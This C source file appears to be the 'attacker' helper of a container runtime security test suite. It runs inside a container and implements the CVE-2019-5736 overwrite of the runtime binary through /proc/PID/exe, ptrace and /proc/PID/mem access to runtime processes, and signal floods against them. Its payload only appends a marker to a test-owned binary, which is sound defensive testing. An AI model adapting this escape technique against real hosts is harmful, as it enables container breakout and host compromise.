/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The hostile process of the security suite: runs inside a container (built
 * static, copied into the rootfs) and goes after the runtime's processes.
 *
 *   attacker exe REPORT DEV:INO [--fifo PATH] [--scan-secs N] [--write-secs N]
 *       CVE-2019-5736: for up to --scan-secs, opens /proc/PID/exe of every
 *       other process it can see.  An exe with device:inode DEV:INO (the
 *       runtime binary under test, a copy the test owns) is kept; the
 *       attacker then opens --fifo for reading (a hostile #!/proc/self/exe
 *       script blocks the runtime binary on it), and for up to --write-secs
 *       tries to reopen the kept fd for writing (ETXTBSY while anything runs
 *       the binary) and appends HULL-PWNED to it.
 *   attacker ptrace REPORT DEV:INO [--scan-secs N]
 *       For up to --scan-secs, PTRACE_SEIZEs every other process it can
 *       see and opens its /proc/PID/mem; a success on a process whose exe is
 *       DEV:INO (the runtime's code, before it executes the container's
 *       program) is reported.
 *   attacker signal REPORT CMDLINE-PART [--scan-secs N]
 *       For up to --scan-secs, sends SIGKILL, SIGTERM, SIGINT, SIGHUP,
 *       SIGUSR1, SIGSEGV and SIGPIPE to every other process it can see whose
 *       command line contains CMDLINE-PART (the test's --root: only the
 *       runtime's processes of that test, even in the host's pid namespace).
 *
 * Report lines (one write each): "start", "denied PID ERRNO" (first per pid),
 * "opened-runtime PID", "opened-other PID DEV:INO", "attached-runtime PID",
 * "mem-runtime PID", "signalled PID", "wrote", "write-failed ERRNO",
 * "scan-end", "done".  The attacker then sleeps until killed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int report_fd = -1;

static void report(const char *fmt, ...) {
        char buf[256];
        va_list ap;
        va_start(ap, fmt);
        int n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
        va_end(ap);
        if (n < 0)
                return;
        if (n > (int) sizeof(buf) - 2)
                n = (int) sizeof(buf) - 2;
        buf[n++] = '\n';
        (void) write(report_fd, buf, (size_t) n);
}

static double now(void) {
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

/* Pids already reported as denied (bounded: only the first few hundred). */
static int seen[4096];
static int n_seen;
static int first_time(int pid) {
        for (int i = 0; i < n_seen; i++)
                if (seen[i] == pid)
                        return 0;
        if (n_seen < (int) (sizeof(seen) / sizeof(seen[0])))
                seen[n_seen++] = pid;
        return 1;
}

static dev_t target_dev;
static ino_t target_ino;
static struct stat self_st, busybox_st;
static int have_busybox;

static int is_target(const struct stat *st) {
        return st->st_dev == target_dev && st->st_ino == target_ino;
}
static int is_container_file(const struct stat *st) {
        if (st->st_dev == self_st.st_dev && st->st_ino == self_st.st_ino)
                return 1;
        return have_busybox && st->st_dev == busybox_st.st_dev && st->st_ino == busybox_st.st_ino;
}

/* Calls fn(pid) for every process in /proc but this one. */
static void each_pid(void (*fn)(int)) {
        DIR *d = opendir("/proc");
        if (!d)
                return;
        struct dirent *de;
        int self = getpid();
        while ((de = readdir(d))) {
                char *end;
                long pid = strtol(de->d_name, &end, 10);
                if (*end || pid <= 0 || pid == self)
                        continue;
                fn((int) pid);
        }
        closedir(d);
}

static int kept_fd = -1, kept_pid;

static void try_exe(int pid) {
        if (kept_fd >= 0)
                return;
        char p[64];
        snprintf(p, sizeof(p), "/proc/%d/exe", pid);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
                if (errno != ENOENT && first_time(pid))
                        report("denied %d %d", pid, errno);
                return;
        }
        struct stat st;
        if (fstat(fd, &st) == 0 && is_target(&st)) {
                report("opened-runtime %d", pid);
                kept_fd = fd;
                kept_pid = pid;
                return;
        }
        if (fstat(fd, &st) == 0 && !is_container_file(&st) && first_time(-pid))
                report("opened-other %d %u:%u:%lu", pid, major(st.st_dev), minor(st.st_dev), (unsigned long) st.st_ino);
        close(fd);
}

static int exe_is_target(int pid) {
        char p[64];
        struct stat st;
        snprintf(p, sizeof(p), "/proc/%d/exe", pid);
        return stat(p, &st) == 0 && is_target(&st);
}

static void try_ptrace(int pid) {
        /* SEIZE, not ATTACH: no SIGSTOP that could outlive the detach. */
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                if (exe_is_target(pid))
                        report("attached-runtime %d", pid);
                (void) ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                int status;
                if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
                        (void) ptrace(PTRACE_DETACH, pid, 0, 0);
        } else if (errno != ESRCH && first_time(pid))
                report("denied %d %d", pid, errno);
        char p[64];
        snprintf(p, sizeof(p), "/proc/%d/mem", pid);
        int fd = open(p, O_RDWR | O_CLOEXEC);
        if (fd >= 0) {
                if (exe_is_target(pid))
                        report("mem-runtime %d", pid);
                close(fd);
        }
}

static const char *only_cmdline;

static int cmdline_has(int pid, const char *part) {
        char p[64], buf[8192];
        snprintf(p, sizeof(p), "/proc/%d/cmdline", pid);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return 0;
        ssize_t n = read(fd, buf, sizeof(buf) - 1);
        close(fd);
        if (n <= 0)
                return 0;
        for (ssize_t i = 0; i < n; i++)
                if (buf[i] == 0)
                        buf[i] = ' ';
        buf[n] = 0;
        return strstr(buf, part) != NULL;
}

static void try_signal(int pid) {
        static const int sigs[] = { SIGKILL, SIGTERM, SIGINT, SIGHUP, SIGUSR1, SIGSEGV, SIGPIPE };
        int ok = 0;
        if (!only_cmdline || !cmdline_has(pid, only_cmdline))
                return;
        for (size_t i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++)
                ok |= kill(pid, sigs[i]) == 0;
        if (ok && first_time(pid))
                report("signalled %d", pid);
}

static int parse_devino(const char *s) {
        unsigned ma, mi;
        unsigned long ino;
        if (sscanf(s, "%u:%u:%lu", &ma, &mi, &ino) != 3)
                return -1;
        target_dev = makedev(ma, mi);
        target_ino = (ino_t) ino;
        return 0;
}

int main(int argc, char **argv) {
        if (argc < 3) {
                fprintf(stderr, "usage: attacker exe|ptrace|signal REPORT [DEV:INO] [options]\n");
                return 2;
        }
        const char *mode = argv[1];
        report_fd = open(argv[2], O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
        if (report_fd < 0) {
                perror(argv[2]);
                return 2;
        }
        int i = 3;
        if (strcmp(mode, "signal") == 0) {
                if (argc < 4 || !*argv[3]) {
                        fprintf(stderr, "attacker: signal needs the command line part to look for\n");
                        return 2;
                }
                only_cmdline = argv[3];
                i = 4;
        } else {
                if (argc < 4 || parse_devino(argv[3]) < 0) {
                        fprintf(stderr, "attacker: expected MAJOR:MINOR:INODE\n");
                        return 2;
                }
                i = 4;
        }
        const char *fifo = NULL;
        double scan = 3, wsecs = 5;
        for (; i + 1 < argc; i += 2) {
                if (strcmp(argv[i], "--fifo") == 0)
                        fifo = argv[i + 1];
                else if (strcmp(argv[i], "--scan-secs") == 0)
                        scan = atof(argv[i + 1]);
                else if (strcmp(argv[i], "--write-secs") == 0)
                        wsecs = atof(argv[i + 1]);
        }
        (void) stat("/proc/self/exe", &self_st);
        have_busybox = stat("/bin/busybox", &busybox_st) == 0;
        signal(SIGPIPE, SIG_IGN);
        report("start");

        void (*fn)(int) = strcmp(mode, "exe") == 0 ? try_exe : strcmp(mode, "ptrace") == 0 ? try_ptrace : try_signal;
        double end = now() + scan;
        while (now() < end && kept_fd < 0)
                each_pid(fn);
        report("scan-end");

        if (fifo) {
                /* Release whatever blocks in opening the fifo for writing. */
                char p[4200];
                int f = open(fifo, O_RDWR | O_NONBLOCK | O_CLOEXEC);
                if (f < 0 && kept_pid > 0) {
                        snprintf(p, sizeof(p), "/proc/%d/root%s", kept_pid, fifo);
                        f = open(p, O_RDWR | O_NONBLOCK | O_CLOEXEC);
                }
                (void) f; /* kept open: the writer's log lines must not fail */
        }
        if (kept_fd >= 0) {
                char p[64];
                snprintf(p, sizeof(p), "/proc/self/fd/%d", kept_fd);
                double wend = now() + wsecs;
                int err = 0;
                for (;;) {
                        int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
                        if (w >= 0) {
                                static const char mark[] = "\nHULL-PWNED-BY-THE-CONTAINER\n";
                                if (write(w, mark, sizeof(mark) - 1) == (ssize_t) (sizeof(mark) - 1))
                                        report("wrote");
                                else
                                        report("write-failed %d", errno);
                                close(w);
                                break;
                        }
                        err = errno;
                        if (now() > wend) {
                                report("write-failed %d", err);
                                break;
                        }
                        usleep(2000);
                }
        }
        report("done");
        for (;;)
                pause();
}
